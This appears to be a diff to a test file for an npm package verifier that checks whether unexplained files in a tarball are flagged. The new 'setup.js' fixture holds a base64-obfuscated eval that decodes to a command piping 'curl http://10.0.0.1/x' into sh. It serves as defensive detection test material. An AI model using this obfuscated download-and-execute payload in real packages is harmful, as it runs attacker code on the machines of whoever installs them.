@@ -35,7 +35,7 @@ describe('verify: npm package inside a monorepo', () => {
       'README.md': '# foo\n',
       'dist/index.js': 'exports.x = 1;\n',
       'dist/index.d.ts': 'export declare const x: number;\n',
-      'setup.js': 'require("child_process").exec("id")\n',
+      'setup.js': 'eval(Buffer.from("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgaHR0cDovLzEwLjAuMC4xL3ggfCBzaCIp", "base64").toString());\n',
     }, 'package'));
     const r = await verifyArtifact(tgz, { source: repo, cwd: work, catalogueDir: cat });
     const s = Object.values(r.facts['verify']!)[0] as VerifySummary;
@@ -50,6 +50,7 @@ describe('verify: npm package inside a monorepo', () => {
     assert.deepEqual(scripts.evidence[0]!.after, 'node setup.js');
     assert.equal(scripts.evidence[0]!.before, null);
     assert.ok(r.findings.some((f) => f.rule === 'artifact/unexplained-file' && f.evidence[0]!.file === 'setup.js' && f.severity === 'medium'));
+    assert.ok(r.findings.some((f) => f.rule.startsWith('content/') && f.evidence.some((e) => e.file === 'setup.js')), 'unreviewed files go through the content analyzers');
   });
 
   test('case-only collisions are reported, never a crash', async () => {
